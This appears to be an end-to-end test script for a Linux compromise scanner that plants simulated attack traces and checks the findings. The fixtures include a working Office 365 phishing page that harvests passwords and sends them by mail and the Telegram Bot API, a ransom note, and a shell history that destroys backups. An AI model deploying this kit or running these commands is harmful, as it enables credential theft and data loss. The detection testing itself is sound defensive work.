#!/bin/bash
# Web roots, staged data and ransomware traces in a disk image (--root):
# an Office 365 phishing kit (login.php with a password form, mail() and
# the Telegram Bot API) and its credential drop file owned by www-data
# (uid 33; as root only, else the drop is checked as someone else's), a
# mysqldump in the web root, a WordPress-like site found through an nginx
# `root` line (nothing at high), a 25 MB gzip in /dev/shm/.x, a ransom
# note beside 25 *.locked files, an rclone.conf with a MEGA remote, a
# root history that deletes the backups, and a dump under /var/backups
# (not reported).  Then the bounded walk: 30,000 files in a web root with
# the entry cap lowered to 10,000 (ROOKMELDER_WALK_MAX, for tests): the
# scan stays fast and says in scan.skipped where it stopped.  Live: a
# program running as "rclone copy ... megabox:loot" (RM-DAT-001) and one as
# "openssl enc" from /dev/shm (RM-RAN-002 high).
. "$(dirname "$0")/lib.sh"

R=$T/img
mkdir -p "$R/etc/nginx/sites-enabled" "$R/var/log" "$R/var/www/html/o365" \
	"$R/srv/blog/wp-content/plugins/seo" "$R/dev/shm/.x" "$R/srv/data" \
	"$R/root/.config/rclone" "$R/var/backups" "$R/home/alice"
cat >"$R/etc/passwd" <<'P'
root:x:0:0:root:/root:/bin/bash
www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin
alice:x:1000:1000::/home/alice:/bin/bash
P
printf 'root:x:0:\nwww-data:x:33:\n' >"$R/etc/group"
: >"$R/var/log/syslog"   # the image's "now"

cat >"$R/var/www/html/o365/login.php" <<'K'
<?php
if ($_POST['login']) {
	$ip = $_SERVER['REMOTE_ADDR'];
	$msg = "Office365 ReZulT\nEmail: ".$_POST['login']."\nPassword: ".$_POST['passwd']."\nIP: $ip\n";
	mail("drop@example.invalid", "New Office365 log", $msg);
	file_get_contents("https://api.telegram.org/bot123456:AAE/sendMessage?chat_id=1&text=".urlencode($msg));
	$f = fopen("rez.txt", "a"); fwrite($f, $msg); fclose($f);
	header("Location: https://www.office.com/");
}
?>
<html><head><title>Sign in to your Microsoft account</title></head>
<body><form method="post"><input type="email" name="login">
<input type="password" name="passwd"><input type="submit" value="Sign in"></form></body></html>
K
cat >"$R/var/www/html/o365/rez.txt" <<'D'
Office365 ReZulT
Email: victim1@example.com
Password: Summer2026!
IP: 203.0.113.7

Office365 ReZulT
Email: victim2@example.org
Password: hunter2
IP: 198.51.100.9
D
printf -- '-- MySQL dump 10.13  Distrib 8.0.36\n--\n-- Host: localhost    Database: shop\nCREATE TABLE `users` (id int);\nINSERT INTO `users` VALUES (1);\n' \
	>"$R/var/www/html/db.sql"
owned=0
if [ "$MYUID" = 0 ]; then
	chown -R 33:33 "$R/var/www/html/o365" && owned=1
fi

# a WordPress-like site, its web root named only in nginx's config
echo 'server { listen 80; server_name blog; root /srv/blog; index index.php; }' \
	>"$R/etc/nginx/sites-enabled/blog"
cat >"$R/srv/blog/wp-login.php" <<'W'
<?php
require __DIR__ . '/wp-load.php';
wp_mail( $user_email, wp_specialchars_decode( $title ), $message );
?>
<form name="loginform" id="loginform" action="wp-login.php" method="post">
<label for="user_login">Username or Email Address</label><input type="text" name="log">
<label for="user_pass">Password</label><input type="password" name="pwd" id="user_pass">
</form><p>Powered by WordPress</p>
W
printf '<?php define("DB_PASSWORD", "x"); ?>\n' >"$R/srv/blog/wp-config.php"
printf '=== SEO ===\nUsername: admin\nPassword: admin\nChange it.\n' \
	>"$R/srv/blog/wp-content/plugins/seo/readme.txt"

# 25 MB of "archive" staged in a hidden directory in /dev/shm (magic bytes
# and a sparse tail: only the head is read)
printf '\037\213\010\000' >"$R/dev/shm/.x/l.tar.gz"
truncate -s 25M "$R/dev/shm/.x/l.tar.gz"
printf '\037\213\010\000' >"$R/var/backups/db.sql.gz"

cat >"$R/srv/data/README_FOR_DECRYPT.txt" <<'N'
All your files have been encrypted!
To decrypt them send 0.05 BTC to bc1qexampleexampleexample and write to
http://examplexampleexample.onion/ with your ID.
N
for i in $(seq 1 25); do : >"$R/srv/data/report$i.pdf.locked"; done

cat >"$R/root/.config/rclone/rclone.conf" <<'C'
[megabox]
type = mega
user = someone@example.invalid
pass = OBSCUREDSECRETPASS
C
printf 'ls -la\nlvremove -f /dev/vg0/backup_snap\nrm -rf /var/backups\nhistory -c\n' \
	>"$R/root/.bash_history"

rm_json "$T/img.json" --root "$R" --facts
[ "$RC" = 1 ] || fail "the image exits $RC, expected 1"
grep -q OBSCUREDSECRETPASS "$T/img.json" && fail "an rclone secret is in the output"
grep -q 'Summer2026' "$T/img.json" && fail "a harvested password is in the output"

one() {  # RULE PATH [SEVERITY]: exactly one finding of RULE on PATH; F = it
	local all n
	all=$(jq -c --arg r "$1" --arg p "$2" '[.findings[] | select(.rule.id == $r and .file.path == $p)]' "$T/img.json")
	n=$(jq length <<<"$all")
	[ "$n" = 1 ] || { dump_findings "$T/img.json" >&2; fail "$n $1 findings for $2, expected 1"; }
	F=$(jq -c '.[0]' <<<"$all")
	F_WHAT="$1 for $2"
	[ -z "${3:-}" ] || f_eq .severity "$3"
}

one RM-ABU-004 /var/www/html/o365/login.php high
f_eq .rule.category abuse
f_eq .evidence.brand office365
f_eq .evidence.web_root /var/www
f_eq '.evidence.signals | index("posts to the Telegram Bot API") != null' true
f_eq '.evidence.signals | index("sends mail (mail())") != null' true
if [ $owned = 1 ]; then
	one RM-ABU-005 /var/www/html/o365/rez.txt high
	f_eq .evidence.written_by_web_server true
	f_eq .evidence.file_owner_uid 33
	f_eq '.message | contains("www-data")' true
else
	say "not root: the drop file is not www-data's; checked as someone else's"
	one RM-ABU-005 /var/www/html/o365/rez.txt medium
fi
f_eq .evidence.credential_records 2
f_eq .rule.category abuse
one RM-DAT-002 /var/www/html/db.sql high
f_eq .evidence.format mysqldump
f_eq .rule.category data-theft
one RM-DAT-002 /dev/shm/.x/l.tar.gz high
f_eq .evidence.format gzip
f_eq .evidence.size 26214400
one RM-RAN-001 /srv/data/README_FOR_DECRYPT.txt critical
f_eq .rule.category ransomware-prep
one RM-RAN-001 /srv/data critical
f_eq .evidence.files 25
f_eq .evidence.extension .locked
one RM-DAT-001 /root/.config/rclone/rclone.conf medium
f_eq .evidence.remote megabox
f_eq .evidence.remote_type mega
jq_true "$T/img.json" '[.findings[] | select(.rule.id == "RM-RAN-002" and .file.path == "/root/.bash_history")] | length == 2' \
	"RM-RAN-002 on the history: $(dump_findings "$T/img.json")"
jq_true "$T/img.json" '[.findings[] | select(.rule.id == "RM-RAN-002" and .evidence.line == 3)][0].severity == "high"' \
	"rm -rf /var/backups is not high"
jq_true "$T/img.json" '[.findings[] | select(.rule.id == "RM-RAN-002" and .evidence.line == 2)][0].evidence.command == "lvremove -f /dev/vg0/backup_snap"' \
	"the lvremove line is not the evidence"
# the negatives: WordPress, the backup dump
jq_true "$T/img.json" '[.findings[] | select((.file.path // "") | startswith("/srv/blog"))
	| select(.severity == "high" or .severity == "critical")] | length == 0' \
	"the WordPress-like site has findings at high: $(dump_findings "$T/img.json")"
jq_true "$T/img.json" '[.findings[] | select(.rule.id == "RM-ABU-004" and ((.file.path // "") | startswith("/srv/blog")))] | length == 0' \
	"wp-login.php is taken for a kit"
jq_true "$T/img.json" '[.findings[] | select((.file.path // "") | startswith("/var/backups"))] | length == 0' \
	"the dump under /var/backups is reported"
# the nginx root was found and walked
jq_true "$T/img.json" '[.facts.web_files[]?, .facts.data_files[]?] | length > 0' "no web or data facts"
jq_true "$T/img.json" '[.scan.skipped[] | select(.check == "web roots" or .check == "staged data")] | length == 0' \
	"a small image hit a walk cap: $(jq -c .scan.skipped "$T/img.json")"

# ---- the bounded walk: 30,000 files, the cap at 10,000 ----------------------
B=$T/big
mkdir -p "$B/var/www/html" "$B/etc"
cp "$R/etc/passwd" "$B/etc/passwd"
for d in $(seq 0 29); do
	mkdir "$B/var/www/html/d$d"
	(cd "$B/var/www/html/d$d" && seq -f "f%g.html" 1 1000 | xargs touch)
done
[ "$(find "$B/var/www/html" -type f | wc -l)" = 30000 ] || fail "the big tree was not made"
t0=$(date +%s%N)
export ROOKMELDER_WALK_MAX=10000
rm_json "$T/big.json" --root "$B"
unset ROOKMELDER_WALK_MAX
ms=$(( ($(date +%s%N) - t0) / 1000000 ))
jq_true "$T/big.json" '[.scan.skipped[] | select(.check == "web roots" and (.reason | contains("stopped after 10000 entries")) and (.reason | contains("in /var/www/html/d")))] | length == 1' \
	"the cap is not recorded with where the walk stopped: $(jq -c .scan.skipped "$T/big.json")"
[ "$ms" -lt 20000 ] || fail "the capped scan took $ms ms"
say "web/data image: $(jq '.findings | length' "$T/img.json") findings; capped walk of 30000 files: ${ms} ms"

# ---- live: a sync to a remote and an encryptor (sleeper, renamed) ----------
# rclone from a plain directory (medium: an administrator could run it);
# "openssl enc" from /dev/shm (high: from a writable directory)
rm -rf "$B" "$R"   # the live scan walks /tmp: not through the fixtures
plain_dir || skip "no directory with a plain path to run the helper from"
cp "$HELPERS/sleeper" "$PLAIN/rclone"
cd "$PLAIN" || fail "cannot enter $PLAIN"  # its cwd is not /tmp either
bg rc "$PLAIN/rclone" -n rclone -0 "rclone copy /srv/data megabox:loot" -t 60
P_RC=$BG_PID
cd "$T" || fail "cannot go back to $T"
SHM=/dev/shm/rm-e2e-42-$$
track_path "$SHM"
mkdir "$SHM" && cp "$HELPERS/sleeper" "$SHM/openssl" || skip "cannot write /dev/shm"
bg enc "$SHM/openssl" -n openssl -0 "openssl enc -aes-256-cbc -in /srv/db -out /srv/db.enc" -t 60
P_ENC=$BG_PID
wait_ready rc
wait_ready enc
rm_json "$T/live.json" --cpu-window 0 --no-pid-probe --no-packages
expect_finding "$T/live.json" RM-DAT-001 "$P_RC" medium
f_eq .evidence.tool rclone
f_eq .evidence.remote megabox:loot
f_eq .rule.category data-theft
expect_finding "$T/live.json" RM-RAN-002 "$P_ENC" high
f_eq .evidence.tool openssl
f_eq '.evidence.context | contains("writable")' true
no_finding "$T/live.json" RM-RAN-002 "$P_RC"
finish
